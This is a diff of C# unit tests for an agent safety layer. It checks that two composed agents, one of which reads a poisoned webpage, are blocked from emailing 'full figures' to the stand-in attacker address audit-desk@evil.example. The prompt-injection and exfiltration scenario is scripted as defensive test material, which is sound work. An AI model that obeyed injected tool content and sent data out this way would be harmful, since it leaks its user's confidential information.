@@ -1,5 +1,7 @@
 using Microsoft.Extensions.AI;
 
+using SafetyLayers.Testing;
+
 namespace SafetyLayers.Tests.Tools;
 
 /// <summary>
@@ -13,7 +15,7 @@ public sealed class TwoAgentCompositionTests
 
     private static ToolHarness AgentB()
     {
-        var model = new ScriptedToolModel().Calls("get_webpage", new { url = "https://news.example/q3" });
+        var model = new ScriptedAgentChatClient().Calls("get_webpage", new { url = "https://news.example/q3" });
         var b = new ToolHarness(model, AgentPolicies.Default);
         b.Tool("get_webpage", Poison);
         return b;
@@ -34,7 +36,7 @@ public sealed class TwoAgentCompositionTests
     [Fact]
     public async Task AgentA_Alone_SendsEmailAsAsked()
     {
-        var model = new ScriptedToolModel().Calls("send_email", new { to = "cfo@example.com", body = "Figures attached." });
+        var model = new ScriptedAgentChatClient().Calls("send_email", new { to = "cfo@example.com", body = "Figures attached." });
         using var a = new ToolHarness(model, AgentPolicies.Default);
         a.Tool("send_email", "sent");
 
@@ -49,7 +51,7 @@ public sealed class TwoAgentCompositionTests
     public async Task AgentAsTool_ComposedAgents_StopTheEgressCall(bool streaming)
     {
         using ToolHarness b = AgentB();
-        var model = new ScriptedToolModel().Calls("ask_researcher", new { request = "What is new in Q3?" })
+        var model = new ScriptedAgentChatClient().Calls("ask_researcher", new { request = "What is new in Q3?" })
             .Obeys("audit-desk@evil.example", "send_email", new { to = "audit-desk@evil.example", body = "full figures" });
         using var a = new ToolHarness(model, AgentPolicies.Default);
         a.Tool(b.Client.AsAgentTool("ask_researcher", "Researches the web.", b.Options())).Tool("send_email", "sent");
@@ -67,7 +69,7 @@ public sealed class TwoAgentCompositionTests
     {
         using ToolHarness b = AgentB();
         ChatResponse fromB = await b.AskAsync("summarize the Q3 news");
-        var model = new ScriptedToolModel().Obeys("audit-desk@evil.example", "send_email", new { to = "audit-desk@evil.example" });
+        var model = new ScriptedAgentChatClient().Obeys("audit-desk@evil.example", "send_email", new { to = "audit-desk@evil.example" });
         using var a = new ToolHarness(model, AgentPolicies.Default);
         a.Tool("send_email", "sent");
         // A's own model reads B's answer as part of its history and (being obedient) acts on it.
